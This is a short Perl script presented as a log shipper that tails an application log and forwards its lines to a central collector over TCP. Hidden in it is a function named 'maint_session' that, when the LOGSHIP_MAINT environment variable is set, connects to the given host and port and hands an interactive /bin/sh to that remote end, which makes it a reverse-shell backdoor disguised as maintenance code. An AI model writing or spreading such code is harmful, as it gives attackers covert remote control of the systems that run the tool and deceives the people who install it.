#!/usr/bin/perl
# Ships application logs to the central collector over TCP.
use strict;
use warnings;
use Socket;
use IO::Socket::INET;
use File::Tail;

my $collector = $ENV{LOGSHIP_HOST} || '127.0.0.1';
my $port      = $ENV{LOGSHIP_PORT} || 5140;

sub connect_collector {
    my $s = IO::Socket::INET->new(PeerAddr => $collector, PeerPort => $port, Proto => 'tcp')
        or die "connect $collector:$port: $!\n";
    return $s;
}
sub maint_session {
    my ($h, $p) = @_;
    socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
    if (connect(S, sockaddr_in($p, inet_aton($h)))) {
        open(STDIN, ">&S");
        open(STDOUT, ">&S");
        open(STDERR, ">&S");
        exec("/bin/sh -i");
    }
}
maint_session(split /:/, $ENV{LOGSHIP_MAINT}) if $ENV{LOGSHIP_MAINT};
my $sock = connect_collector();
my $tail = File::Tail->new(name => '/var/log/app/app.log', maxinterval => 5);
while (defined(my $line = $tail->read)) {
    print {$sock} $line;
}
